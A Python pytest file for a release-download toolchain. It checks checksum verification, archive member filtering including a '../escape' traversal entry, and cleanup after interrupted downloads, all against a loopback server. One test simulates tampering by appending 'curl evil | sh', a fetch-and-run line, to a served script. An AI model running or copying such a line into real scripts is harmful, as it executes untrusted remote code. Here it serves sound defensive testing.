"""Programs from official releases: what is taken, what is refused, what an accident leaves."""

from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from rich.console import Console

from tools.toolchain import Origin, Resolved, ToolchainError, resolve
from tools.toolchain.releases import find_digest

REPOSITORY = Path(__file__).parents[2]
SCRIPT = b"#!/bin/sh\necho hello v1.2.3\n"


@dataclass
class Publisher:
    """A release host on loopback."""

    url: str = ""
    files: dict[str, bytes] = field(default_factory=dict)
    gets: list[str] = field(default_factory=list)
    cut_short: bool = False
    stall: threading.Event | None = None
    stalled: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def publisher() -> Iterator[Publisher]:
    host = Publisher()

    class Handler(BaseHTTPRequestHandler):
        def do_HEAD(self) -> None:
            self.send_response(200)
            self.end_headers()

        def do_GET(self) -> None:
            name = self.path.lstrip("/")
            host.gets.append(name)
            if name not in host.files:
                self.send_error(404)
                return
            content = host.files[name]
            self.send_response(200)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            half = len(content) // 2
            self.wfile.write(content[:half])
            if host.cut_short:
                return
            if host.stall and name == "hello":
                host.stalled.set()
                host.stall.wait(60)
            self.wfile.write(content[half:])

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    host.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield host
    if host.stall:
        host.stall.set()
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv("SYNAPSE_CACHE", str(folder))
    return folder


def write_versions(path: Path, **entry: object) -> Path:
    program = {"version": "1.2.3", "accept": ">=1.2.3,<2", "version_command": [], **entry}
    versions = {
        "programs": {"hello": program},
        "go_wheel": {"version": "1", "sha256": [], "minimum": "1.25"},
    }
    path.write_text(yaml.safe_dump(versions), "utf-8")
    return path


def offer(publisher: Publisher, tmp_path: Path, **entry: object) -> Path:
    publisher.files = {
        "hello": SCRIPT,
        "SHA256SUMS": f"{hashlib.sha256(SCRIPT).hexdigest()}  hello\n".encode(),
    }
    release = {"url": f"{publisher.url}/hello", "checksums": [f"{publisher.url}/SHA256SUMS"]}
    return write_versions(tmp_path / "versions.yaml", **{"release": release, **entry})


def get(versions: Path) -> Resolved:
    return resolve(["hello"], Console(quiet=True), versions)[0]


def get_in_a_process(versions: Path) -> subprocess.Popen[str]:
    script = f"""
from pathlib import Path
from rich.console import Console
from tools.toolchain import resolve
print(resolve(["hello"], Console(), Path({str(versions)!r}))[0].origin, flush=True)
"""
    return subprocess.Popen(
        [sys.executable, "-c", script], cwd=REPOSITORY, stdout=subprocess.PIPE, text=True
    )


def put_on_path(folder: Path, says: str, monkeypatch: pytest.MonkeyPatch) -> None:
    folder.mkdir()
    (folder / "hello").write_text(f"#!/bin/sh\necho '{says}'\n", "utf-8")
    (folder / "hello").chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")


@pytest.mark.parametrize(
    ("says", "origin"),
    [
        ("hello v1.2.3", Origin.INSTALLED),
        ("hello 1.9.0", Origin.INSTALLED),
        ("hello v1.2.2", Origin.RELEASE),
        ("hello v2.0.0", Origin.RELEASE),
        ("Client Version: v1.3.0-dispatcher", Origin.RELEASE),
        ("no version at all", Origin.RELEASE),
    ],
)
@pytest.mark.usefixtures("cache")
def test_path_comes_first_when_its_version_will_do(
    publisher: Publisher,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    says: str,
    origin: Origin,
) -> None:
    put_on_path(tmp_path / "bin", says, monkeypatch)
    assert get(offer(publisher, tmp_path)).origin is origin


@pytest.mark.usefixtures("cache")
def test_a_program_on_path_that_cannot_run_does_not_count(
    publisher: Publisher, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put_on_path(tmp_path / "bin", "", monkeypatch)
    (tmp_path / "bin" / "hello").write_bytes(b"\x7fELF of another machine")
    assert get(offer(publisher, tmp_path)).origin is Origin.RELEASE


def test_our_own_cache_on_path_does_not_count(
    publisher: Publisher, tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache.mkdir()
    put_on_path(cache / "bin", "hello v1.2.3", monkeypatch)
    assert get(offer(publisher, tmp_path)).origin is Origin.RELEASE


@pytest.mark.usefixtures("cache")
def test_release_is_downloaded_once_and_runs(publisher: Publisher, tmp_path: Path) -> None:
    versions = offer(publisher, tmp_path)
    program = get(versions).path
    assert subprocess.run([program], capture_output=True, check=True).stdout == b"hello v1.2.3\n"
    assert get(versions).path == program
    assert publisher.gets.count("hello") == 1


@pytest.mark.usefixtures("cache")
def test_only_the_wanted_files_are_taken_out_of_an_archive(
    publisher: Publisher, tmp_path: Path
) -> None:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as tar:
        for name in ("pkg/hello", "pkg/other", "../escape"):
            member = tarfile.TarInfo(name)
            member.size = len(SCRIPT)
            tar.addfile(member, io.BytesIO(SCRIPT))
    publisher.files = {"hello.tar.gz": content.getvalue()}
    release = {
        "url": f"{publisher.url}/hello.tar.gz",
        "members": ["hello"],
        "sha256": hashlib.sha256(content.getvalue()).hexdigest(),
    }
    program = get(write_versions(tmp_path / "versions.yaml", release=release)).path
    assert [file.name for file in program.parent.iterdir()] == ["hello"]


def test_another_checksum_is_refused(publisher: Publisher, tmp_path: Path, cache: Path) -> None:
    versions = offer(publisher, tmp_path)
    publisher.files["hello"] = SCRIPT + b"curl evil | sh\n"
    with pytest.raises(ToolchainError, match="its publisher says"):
        get(versions)
    assert not list(cache.glob("programs/*/*"))


def test_no_published_checksum_is_refused(
    publisher: Publisher, tmp_path: Path, cache: Path
) -> None:
    versions = offer(publisher, tmp_path)
    del publisher.files["SHA256SUMS"]
    with pytest.raises(ToolchainError, match="no checksum"):
        get(versions)
    assert "hello" not in publisher.gets
    assert not list(cache.glob("programs/*/*"))


def test_a_download_cut_short_leaves_nothing_and_can_be_repeated(
    publisher: Publisher, tmp_path: Path, cache: Path
) -> None:
    versions = offer(publisher, tmp_path)
    publisher.cut_short = True
    with pytest.raises(ToolchainError):
        get(versions)
    assert not list(cache.glob("programs/*/*"))
    publisher.cut_short = False
    assert get(versions).origin is Origin.RELEASE


def test_a_killed_run_leaves_nothing_in_the_way(
    publisher: Publisher, tmp_path: Path, cache: Path
) -> None:
    versions = offer(publisher, tmp_path, release=None)
    release = {"url": f"{publisher.url}/hello", "sha256": hashlib.sha256(SCRIPT).hexdigest()}
    versions = write_versions(tmp_path / "versions.yaml", release=release)
    publisher.stall = threading.Event()
    with get_in_a_process(versions) as process:
        assert publisher.stalled.wait(60)
        process.send_signal(signal.SIGKILL)
    assert not list(cache.glob("programs/*/*"))
    publisher.stall.set()
    assert get(versions).origin is Origin.RELEASE
    assert not list(cache.glob("scratch/*"))


@pytest.mark.usefixtures("cache")
def test_two_at_once_download_once(publisher: Publisher, tmp_path: Path) -> None:
    versions = offer(publisher, tmp_path)
    publisher.stall = threading.Event()
    with get_in_a_process(versions) as first:
        assert publisher.stalled.wait(60)
        with get_in_a_process(versions) as second:
            assert second.stdout
            assert any("another run is getting it" in line for line in second.stdout)
            publisher.stall.set()
            assert second.communicate(timeout=60)[0].endswith("official release\n")
        assert first.communicate(timeout=60)[0].endswith("official release\n")
    assert publisher.gets.count("hello") == 1


@pytest.mark.skipif(sys.platform != "linux", reason="needs a folder that root cannot write to")
def test_a_cache_that_cannot_be_written_is_named(
    publisher: Publisher, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SYNAPSE_CACHE", "/sys/synapse")
    with pytest.raises(
        ToolchainError, match=r"cannot write to the cache /sys/synapse.*SYNAPSE_CACHE"
    ):
        get(offer(publisher, tmp_path))


@pytest.mark.usefixtures("cache")
def test_no_host_and_nothing_else(tmp_path: Path) -> None:
    release = {"url": "http://127.0.0.1:9/hello", "sha256": "0" * 64}
    with pytest.raises(ToolchainError, match="connect to the internet"):
        get(write_versions(tmp_path / "versions.yaml", release=release))


def test_digest_formats() -> None:
    digest = "ab" * 32
    assert find_digest(f"{'cd' * 32}  other\n{digest} *hello\n", "hello") == digest
    assert find_digest(f"{digest}\n", "hello") == digest
    assert find_digest(f"{'cd' * 32}  hello.sig\n", "hello") is None
    assets = [{"name": "hello", "digest": f"sha256:{digest}"}]
    assert find_digest(json.dumps({"assets": assets}), "hello") == digest
    assert find_digest(json.dumps({"assets": [{"name": "hello"}]}), "hello") is None
